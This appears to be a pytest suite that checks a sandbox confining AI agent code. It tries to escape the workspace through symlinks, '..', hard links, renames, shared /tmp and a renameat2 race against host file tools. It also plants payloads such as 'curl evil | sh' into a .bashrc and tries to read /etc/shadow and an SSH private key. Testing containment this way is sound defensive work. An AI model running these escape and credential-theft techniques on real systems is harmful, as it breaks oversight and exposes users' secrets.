"""Writing outside the workspace, and leaving it through symlinks, `..`, hard links, renames,
another worker's /tmp, and the coordinator's own file tools.

The project (cwd), the system, this program's own code and the run's state are read-only
mounts (EROFS); everything else of the host does not exist in the worker's view (ENOENT).
Each test checks the host afterwards: nothing was created, nothing changed, nothing secret
reached the model."""

from __future__ import annotations

import hashlib
import json
import os
import sys
from pathlib import Path

import pytest

import worker as worker_pkg
from engine.tools import RepoTools
from engine.workers import Engine

from .harness import ABSENT, Host, agent_attack, assert_still_works, attack, block, needs_namespaces

pytestmark = pytest.mark.attack

READ_ONLY = "OSError EROFS"
# Refusals of a write to something visible: the read-only mount (EROFS) or, for files that
# exist, their owner's permissions checked first (EACCES, EPERM for chmod).
DENIED = (READ_ONLY, "PermissionError EACCES", "PermissionError EPERM")


def _kept_private(outcome: str, path: Path) -> bool:
    """Whether a write to ``path`` that succeeded (``outcome``) stayed in the worker's private
    /tmp: an unprivileged worker's user namespace made the directories there that lead to what
    it is shown (a run's outputs beneath /tmp, say), so they are its own to write, and nothing
    written there reaches the host.  A root coordinator's worker has another uid: refused."""
    return outcome.startswith("ok") and os.geteuid() != 0 and str(path).startswith("/tmp/")


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


async def test_current_directory_is_read_only(worker, host: Host):
    needs_namespaces()
    before = _digest(host.cwd / "main.py")
    got = await attack(worker, f'''
_os.chdir({str(host.cwd)!r})
probe("create", lambda: open({host.token + ".py"!r}, "w").write("pwned"))
probe("create_abs", lambda: open({str(host.cwd / host.token)!r}, "w").write("pwned"))
probe("append", lambda: open("main.py", "a").write("import os; os.system('pwned')"))
probe("truncate", lambda: _os.truncate("main.py", 0))
probe("remove", lambda: _os.remove("main.py"))
probe("rename", lambda: _os.rename("main.py", "moved.py"))
probe("mkdir", lambda: _os.mkdir("pwned"))
probe("chmod", lambda: _os.chmod("main.py", 0o777))
''')
    for name in ("create", "create_abs", "append", "truncate", "remove", "rename", "mkdir", "chmod"):
        assert got[name] in DENIED, (name, got.probes)
    assert sorted(p.name for p in host.cwd.iterdir()) == ["main.py"]
    assert _digest(host.cwd / "main.py") == before
    await assert_still_works(worker)


async def test_host_home_is_not_writable(worker, host: Host):
    """The coordinator's home is not the worker's: ~ there is a private /tmp, and the real one
    is a read-only, near-empty directory."""
    needs_namespaces()
    home = os.path.realpath(os.path.expanduser("~"))
    name = f".bashrc-{host.token}"
    got = await attack(worker, f'''
probe("real_home", lambda: open({home!r} + "/" + {name!r}, "w").write("curl evil | sh"))
probe("ssh_dir", lambda: _os.makedirs({home!r} + "/.ssh-{host.token}"))
probe("own_home", lambda: open(_os.path.expanduser("~/" + {name!r}), "w").write("harmless"))
probe("own_home_is", lambda: _os.path.expanduser("~"))
''')
    # Absent where the home is not on the way to the worker's Python (it is, for root here).
    assert got["real_home"] in (*DENIED, ABSENT) and got["ssh_dir"] in (*DENIED, ABSENT), got.probes
    assert got["own_home"].startswith("ok"), got.probes  # allowed: it lands in the private /tmp
    assert not os.path.lexists(os.path.join(home, name))
    assert not os.path.lexists(os.path.join(home, f".ssh-{host.token}"))
    inner_home = got["own_home_is"][3:].strip("'")
    assert not os.path.lexists(os.path.join(inner_home, name))  # not on the host's /tmp either
    await assert_still_works(worker)


async def test_system_and_agentloop_code_are_read_only(worker, host: Host):
    """/usr, /etc, the Python running the worker, and this program's own code (a worker that
    rewrites serve.py would own every later worker)."""
    needs_namespaces()
    serve = Path(worker_pkg.__file__).resolve().parent / "serve.py"
    targets = {"usr": f"/usr/bin/{host.token}", "lib": f"/usr/lib/{host.token}",
               "passwd": "/etc/passwd", "python": os.path.realpath(sys.executable),
               "serve": str(serve), "root": f"/{host.token}", "dev": f"/dev/{host.token}",
               "sitecustomize": str(Path(os.__file__).parent / "sitecustomize.py")}
    before = {k: _digest(Path(p)) for k, p in targets.items() if os.path.isfile(p)}
    got = await attack(worker, f'''
for name, path in {targets!r}.items():
    probe(name, lambda: open(path, "ab").write(b"#pwned"))
''')
    for name in targets:  # (Debian's sitecustomize.py is a link to /etc/python3.X, not shown: absent)
        allowed = (*DENIED, ABSENT) if name == "sitecustomize" else DENIED
        assert got[name] in allowed, (name, got.probes)
    for name, path in targets.items():
        if name in before:
            assert _digest(Path(path)) == before[name], name
        else:
            assert not os.path.lexists(path), path
    await assert_still_works(worker)


async def test_run_state_is_read_only(engine, worker, host: Host):
    """The run's output files (what the model is told its blocks printed) and state directory."""
    needs_namespaces()
    forged = engine.output_dir / f"w1-{host.token}.txt"
    got = await attack(worker, f'''
probe("outputs", lambda: open({str(forged)!r}, "w").write("forged output"))
probe("run_dir", lambda: open({str(engine.run_dir / host.token)!r}, "w").write("x"))
probe("state", lambda: open({str(host.state / host.token)!r}, "w").write("x"))
''')
    paths = {"outputs": forged, "run_dir": engine.run_dir / host.token, "state": host.state / host.token}
    for name, path in paths.items():
        assert got[name] in DENIED or (name != "outputs" and _kept_private(got[name], path)), (name, got.probes)
        assert not path.exists(), path
    await assert_still_works(worker)


async def test_symlinks_do_not_leave_the_workspace(worker, host: Host):
    needs_namespaces()
    ws = host.workspace
    got = await attack(worker, f'''
_os.chdir({str(ws)!r})
_os.symlink({str(host.alice_key)!r}, "key")
_os.symlink("/etc/shadow", "shadow")
_os.symlink({str(host.outside)!r}, "out")
_os.symlink({str(host.cwd / "main.py")!r}, "main")
_os.symlink("../outside", "rel")
probe("read_key", lambda: open("key").read())
probe("read_shadow", lambda: open("shadow").read())
probe("write_out", lambda: open("out/{host.token}", "w").write("escaped"))
probe("write_rel", lambda: open("rel/{host.token}", "w").write("escaped"))
probe("write_main", lambda: open("main", "a").write("escaped"))
probe("proc_root", lambda: open("/proc/self/root" + {str(host.alice_key)!r}).read())
''')
    for name in ("read_key", "read_shadow", "write_out", "write_rel", "proc_root"):
        assert got[name] == ABSENT, (name, got.probes)
    assert got["write_main"] in DENIED, got.probes
    assert host.alice_secret not in got.result.output
    assert list(host.outside.iterdir()) == []
    assert (host.cwd / "main.py").read_text() == "print('the project')\n"
    await assert_still_works(worker)


async def test_dotdot_and_links_do_not_leave_the_workspace(worker, host: Host):
    needs_namespaces()
    ws = host.workspace
    rel_key = os.path.relpath(host.alice_key, ws)
    got = await attack(worker, f'''
_os.chdir({str(ws)!r})
open("mine", "w").write("mine")
probe("dotdot_read", lambda: open({rel_key!r}).read())
probe("dotdot_deep", lambda: open("../" * 40 + {str(host.alice_key)[1:]!r}).read())
probe("dotdot_write", lambda: open("../outside/{host.token}", "w").write("escaped"))
probe("dotdot_parent", lambda: open("../{host.token}", "w").write("escaped"))
probe("hardlink_in", lambda: _os.link({str(host.cwd / "main.py")!r}, "main-link"))
probe("rename_out", lambda: _os.rename("mine", {str(host.cwd / host.token)!r}))
probe("rename_up", lambda: _os.rename("mine", "../{host.token}"))
''')
    for name in ("dotdot_read", "dotdot_deep", "dotdot_write"):
        assert got[name] == ABSENT, (name, got.probes)
    assert got["dotdot_parent"] in DENIED or _kept_private(got["dotdot_parent"], ws.parent / host.token), got.probes
    assert got["hardlink_in"] == "OSError EXDEV", got.probes  # another mount: no link across
    assert got["rename_out"] == "OSError EXDEV" and got["rename_up"] == "OSError EXDEV", got.probes
    assert list(host.outside.iterdir()) == []
    assert not (host.root / host.token).exists() and not (host.cwd / host.token).exists()
    assert (ws / "mine").read_text() == "mine"
    await assert_still_works(worker)


async def test_workers_do_not_share_tmp(engine, worker, host: Host):
    """/tmp and /dev/shm are private to each worker process: one cannot read what another
    left there (a sibling's scratch files, a key it wrote down)."""
    needs_namespaces()
    other = await engine.start_worker("other")
    planted = await attack(other, f'''
for d in ("/tmp", "/dev/shm"):
    probe("plant" + d, lambda: open(d + "/{host.token}", "w").write("sibling secret"))
''')
    assert planted["plant/tmp"] == "ok 14" and planted["plant/dev/shm"] == "ok 14", planted.probes
    got = await attack(worker, f'''
for d in ("/tmp", "/dev/shm"):
    probe("read" + d, lambda: open(d + "/{host.token}").read())
''')
    assert got["read/tmp"] == ABSENT and got["read/dev/shm"] == ABSENT, got.probes
    await assert_still_works(worker)
    await assert_still_works(other)


async def test_agent_cannot_write_outside_the_workspace(engine, host: Host):
    needs_namespaces()
    code = f'''
probe("cwd", lambda: open({str(host.cwd / host.token)!r}, "w").write("x"))
probe("usr", lambda: open("/usr/{host.token}", "w").write("x"))
probe("home", lambda: open({os.path.expanduser("~/" + host.token)!r}, "w").write("x"))
probe("workspace", lambda: open({str(host.workspace / host.token)!r}, "w").write("allowed"))
'''
    run = await agent_attack(engine, block("attack", code), name="writes")
    text = run.blocks["attack"]
    for name in ("cwd", "usr", "home"):  # (a home not on the way to the worker's Python is absent)
        allowed = (*DENIED, ABSENT) if name == "home" else DENIED
        assert any(f"{name}: {d}\n" in text for d in allowed), text
    assert "workspace: ok" in text
    assert (host.workspace / host.token).read_text() == "allowed"
    assert not (host.cwd / host.token).exists() and not Path("/usr", host.token).exists()
    assert not Path(os.path.expanduser("~/" + host.token)).exists()
    run.assert_kept_working()


async def test_agent_cannot_escape_through_a_symlink(engine, host: Host):
    needs_namespaces()
    code = f'''
_os.symlink({str(host.outside)!r}, {str(host.workspace / "out")!r})
probe("escape", lambda: open({str(host.workspace / "out" / host.token)!r}, "w").write("x"))
probe("read", lambda: open({str(host.workspace)!r} + "/../home/alice/.ssh/id_ed25519").read())
'''
    run = await agent_attack(engine, block("attack", code), name="escapes")
    text = run.blocks["attack"]
    assert f"escape: {ABSENT}" in text and f"read: {ABSENT}" in text, text
    assert list(host.outside.iterdir()) == []
    run.assert_kept_working()


# -- the coordinator's own file tools -----------------------------------------------------------
# `--tools repo` offers read_file, list_dir and search to the model's code; they run in the
# coordinator, outside the sandbox, confined to a root (the project by default).  The default
# workspace is the project's files/ directory, so the worker can plant links under that root.

@pytest.fixture
async def tools_engine(host: Host):
    """The default layout: the workspace is <project>/files, inside the tools' root."""
    async with Engine(cwd=host.cwd, state_dir=host.state, workspace=host.cwd / "files") as eng:
        yield eng


def _tools(host: Host) -> dict:
    return RepoTools(host.cwd).functions()


def _sent(run) -> str:
    return json.dumps([r["messages"] for r in run.server.requests])


async def test_host_tools_do_not_follow_workspace_links(tools_engine, host: Host):
    code = f'''
import os
ws = os.path.realpath("files")
os.symlink({str(host.alice_key)!r}, ws + "/key")
os.symlink({str(host.alice / ".ssh")!r}, ws + "/keys")
probe("read_link", lambda: read_file("files/key"))
probe("read_through", lambda: read_file("files/keys/id_ed25519"))
probe("list_through", lambda: list_dir("files/keys"))
probe("search", lambda: search("alice-private-key", "files"))
probe("dotdot", lambda: read_file("files/../../home/alice/.ssh/id_ed25519"))
'''
    run = await agent_attack(tools_engine, block("attack", code), name="tool links", functions=_tools(host))
    text = run.blocks["attack"]
    for name in ("read_link", "read_through", "list_through", "dotdot"):
        assert f"{name}: HostError" in text, (name, text)
    assert "search: ok" in text and "no matches for" in text, text
    assert host.alice_secret not in _sent(run)
    run.assert_kept_working()


# Swaps a real directory (holding a decoy) and a link to the target directory, atomically and
# as fast as it can, while calling a tool on a path through them: the tool checks the path
# when it is the directory and opens it when it is the link.
TOOL_RACE = '''
import os, re, threading
if not hasattr(_libc, "renameat2"):
    print("race: unsupported (no renameat2 in this libc)")
else:
    ws = os.path.realpath("files")
    os.makedirs(ws + "/d", exist_ok=True)
    open(ws + "/d/id_ed25519", "w").write("decoy\\n")
    os.symlink({target!r}, ws + "/link")
    stop = threading.Event()
    leaked, tries = [], [0]

    def flip():
        while not stop.is_set():
            _libc.renameat2(-100, (ws + "/d").encode(), -100, (ws + "/link").encode(), 2)

    def call_tool():
        while not stop.is_set():
            tries[0] += 1
            try:
                out = {call}
            except Exception:
                continue
            if re.search("alice-private-key-[0-9a-f]{{16}}", out):
                leaked.append(out)
                stop.set()

    threads = [threading.Thread(target=flip)] + [threading.Thread(target=call_tool) for _ in range(3)]
    for t in threads:
        t.start()
    stop.wait({seconds})
    stop.set()
    for t in threads:
        t.join()
    print("race:", "LEAKED" if leaked else "held", "after", tries[0], "tries")
    print(leaked[0][:500] if leaked else "")
'''


@pytest.mark.parametrize("call", ['read_file("files/d/id_ed25519")', 'search("alice-private-key", "files")'],
                         ids=["read_file", "search"])
async def test_host_tools_cannot_be_raced_out_of_the_root(tools_engine, host: Host, call):
    """The tools run outside the sandbox, as the coordinator's user: a path they checked must
    still be the one they open (bounded: the race runs for a few seconds at most)."""
    code = TOOL_RACE.format(target=str(host.alice / ".ssh"), seconds=5, call=call)
    run = await agent_attack(tools_engine, block("attack", code), name="tool race", functions=_tools(host))
    text = run.blocks["attack"]
    if "race: unsupported" in text:
        pytest.skip(reason="renameat2 is not available to swap the directory and the link")
    assert host.alice_secret not in _sent(run), text
    assert "race: held" in text, text
    run.assert_kept_working()
